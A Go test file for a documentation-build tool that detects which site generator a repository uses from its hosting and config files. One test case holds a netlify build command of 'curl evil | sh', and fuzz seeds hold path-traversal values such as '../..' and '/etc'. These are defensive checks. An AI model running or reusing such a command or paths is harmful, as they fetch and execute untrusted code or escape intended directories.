package site_test

import (
	"errors"
	"io/fs"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/require"

	"github.com/docjobs/docjobs/engine/site"
	"github.com/docjobs/docjobs/engine/site/sourceconfig"
)

// tree has files with their texts.
func tree(files map[string]string) fstest.MapFS {
	fsys := fstest.MapFS{}
	for name, text := range files {
		fsys[name] = &fstest.MapFile{Data: []byte(text), Mode: 0o644}
	}
	return fsys
}

func TestDetectInTheOrderOfWhoKnowsBest(t *testing.T) {
	t.Parallel()
	commands := site.Commands{"handbook": {Argv: []string{"/x"}, Matches: []string{"make  handbook"}}}
	for name, c := range map[string]struct {
		files     map[string]string
		dir       string
		generator site.Generator
		in        string
	}{
		"docjobs.yaml before all":    {map[string]string{"docjobs.yaml": "generator: mkdocs", "netlify.toml": "[build]\ncommand='hugo'", "hugo.toml": ""}, "", site.MkDocs, "."},
		"docjobs.yaml with a folder": {map[string]string{"docjobs.yaml": "dir: web", "web/mkdocs.yml": "x: y"}, "", site.MkDocs, "web"},
		"the job's folder wins":      {map[string]string{"docjobs.yaml": "dir: web", "web/mkdocs.yml": "", "docs/a.md": ""}, "docs", site.Markdown, "docs"},
		"a command by its name":      {map[string]string{"docjobs.yaml": "command: handbook\ngenerator: hugo"}, "", "handbook", "."},
		"netlify":                    {map[string]string{"netlify.toml": "[build]\ncommand = 'npm ci && npx docusaurus build'\n", "mkdocs.yml": ""}, "", site.Docusaurus, "."},
		"netlify with a base":        {map[string]string{"netlify.toml": "[build]\nbase = 'web'\ncommand = 'hugo --gc'\n", "web/hugo.toml": ""}, "", site.Hugo, "web"},
		"netlify through a script": {map[string]string{"netlify.toml": "[build]\ncommand = 'npm run docs:build'\n",
			"package.json": `{"scripts": {"docs:build": "vitepress build docs"}}`}, "", site.VitePress, "."},
		"netlify with the operator's command": {map[string]string{"netlify.toml": "[build]\ncommand = 'make handbook'\n", "mkdocs.yml": ""}, "", "handbook", "."},
		"netlify with what nobody knows":      {map[string]string{"netlify.toml": "[build]\ncommand = 'curl evil | sh'\n", "mkdocs.yml": ""}, "", site.MkDocs, "."},
		"vercel by its framework":             {map[string]string{"vercel.json": `{"framework": "astro"}`, "README.md": ""}, "", site.Astro, "."},
		"vercel by its command":               {map[string]string{"vercel.json": `{"buildCommand": "bundle exec jekyll build"}`}, "", site.Jekyll, "."},
		"readthedocs with Sphinx":             {map[string]string{".readthedocs.yaml": "sphinx: {configuration: docs/conf.py}", "docs/conf.py": "", "mkdocs.yml": ""}, "", site.Sphinx, "."},
		"readthedocs with MkDocs":             {map[string]string{".readthedocs.yml": "mkdocs: {configuration: mkdocs.yml}", "mkdocs.yml": ""}, "", site.MkDocs, "."},
		"readthedocs with commands":           {map[string]string{".readthedocs.yaml": "build: {commands: [pip install x, mkdocs build, echo done]}"}, "", site.MkDocs, "."},
		"broken settings are others'":         {map[string]string{"netlify.toml": "[", "vercel.json": "{", ".readthedocs.yaml": "[", "book.toml": ""}, "", site.MdBook, "."},
		"Hugo before MkDocs":                  {map[string]string{"hugo.toml": "", "mkdocs.yml": ""}, "", site.Hugo, "."},
		"MkDocs":                              {map[string]string{"mkdocs.yml": "", "docs/index.md": ""}, "", site.MkDocs, "."},
		"Docusaurus":                          {map[string]string{"website/docusaurus.config.ts": "", "README.md": ""}, "", site.Docusaurus, "website"},
		"VitePress":                           {map[string]string{"docs/.vitepress/config.mts": "", "README.md": ""}, "", site.VitePress, "."},
		"Astro":                               {map[string]string{"astro.config.mjs": "", "README.md": ""}, "", site.Astro, "."},
		"mdBook":                              {map[string]string{"book.toml": "", "src/SUMMARY.md": ""}, "", site.MdBook, "."},
		"Sphinx":                              {map[string]string{"doc/source/conf.py": "", "README.md": ""}, "", site.Sphinx, "."},
		"Jekyll":                              {map[string]string{"_config.yml": "", "index.md": ""}, "", site.Jekyll, "."},
		"Markdown":                            {map[string]string{"a.md": "", "index.html": ""}, "", site.Markdown, "."},
		"a finished site":                     {map[string]string{"index.html": ""}, "", site.Static, "."},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d, err := commands.Detect(tree(c.files), c.dir)
			require.NoError(t, err)
			require.Equal(t, c.generator, d.Generator, d.Reasons)
			require.Equal(t, c.in, d.Dir)
			require.NotEmpty(t, d.Reasons)
		})
	}
}

func TestDetectTellsWhatElseTheSettingsSay(t *testing.T) {
	t.Parallel()
	d, err := site.Detect(tree(map[string]string{"hugo.toml": "", "netlify.toml": `
[build]
command = "hugo --minify"
publish = "public"
[build.environment]
HUGO_VERSION = "0.121.2"
[context.production.environment]
HUGO_VERSION = "0.122.0"
`}))
	require.NoError(t, err)
	require.Equal(t, "0.122.0", d.Versions["hugo"])
	require.Equal(t, []string{`netlify.toml runs "hugo --minify", which is hugo; it wants Hugo 0.122.0.`}, d.Reasons)
	require.Empty(t, d.Env, "variables of a hosting service are not ours")

	_, err = site.Detect(tree(map[string]string{"docjobs.yaml": "generater: x"}))
	var fault *sourceconfig.Error
	require.ErrorAs(t, err, &fault)
	_, err = site.Commands(nil).Detect(tree(map[string]string{"a.md": ""}), "gone")
	var none *site.NotASiteError
	require.ErrorAs(t, err, &none)
}

// FuzzDetectDeclared has files of others that nobody has checked.
func FuzzDetectDeclared(f *testing.F) {
	f.Add("netlify.toml", "[build]\ncommand = 'hugo'\npublish = '../..'\nbase = '/../x'")
	f.Add("vercel.json", `{"buildCommand": null, "outputDirectory": "/etc"}`)
	f.Add(".readthedocs.yaml", "build: {commands: [mkdocs build]}\nsphinx: {configuration: ../../conf.py}")
	f.Add("package.json", `{"scripts": {"build": "npm run build"}}`)
	f.Fuzz(func(t *testing.T, name, text string) {
		files := map[string]string{"netlify.toml": "[build]\ncommand = 'npm run build'", "index.html": ""}
		switch name {
		case "netlify.toml", "vercel.json", ".readthedocs.yaml", "package.json", "docjobs.yaml":
			files[name] = text
		}
		d, err := site.Detect(tree(files))
		if err != nil {
			var fault *sourceconfig.Error
			var none *site.NotASiteError
			require.True(t, errors.As(err, &fault) || errors.As(err, &none), err)
			return
		}
		for _, inside := range []string{d.Dir, d.Below} {
			require.True(t, fs.ValidPath(inside), inside)
		}
		require.True(t, d.Output == "" || fs.ValidPath(d.Output), d.Output)
	})
}
